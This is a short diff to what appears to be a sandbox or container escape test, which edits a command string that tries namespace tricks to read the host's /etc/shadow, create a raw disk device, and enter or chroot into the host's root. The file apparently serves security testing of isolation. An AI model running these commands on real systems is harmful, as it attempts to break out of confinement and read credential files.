@@ -5,9 +5,9 @@ It succeeds as an attempt: the mounts in the new namespaces work, the host's dis
 
 from attack import Attack
 
-TRY = ("unshare -Urmpf --mount-proc sh -c 'id -u; mount -t tmpfs none /mnt 2>&1 || mount -t tmpfs none /tmp && echo mounted;"
-       " mount -t sysfs none /sys; mount --bind / /tmp; cat /proc/1/root/etc/shadow; mknod /tmp/disk b 8 0;"
-       " nsenter -t 1 -m id; chroot /proc/1/root id'")
+TRY = ("unshare -Urmpf --mount-proc sh -c 'id -u; mount -t tmpfs none /tmp && echo mounted;"
+       " mount -t sysfs none /sys; mount --bind / /tmp; cat /proc/1/root/etc/shadow;"
+       " mknod /tmp/disk b 8 0; nsenter -t 1 -m id; chroot /proc/1/root id'")
 
 
 def run(attack: Attack) -> bool:
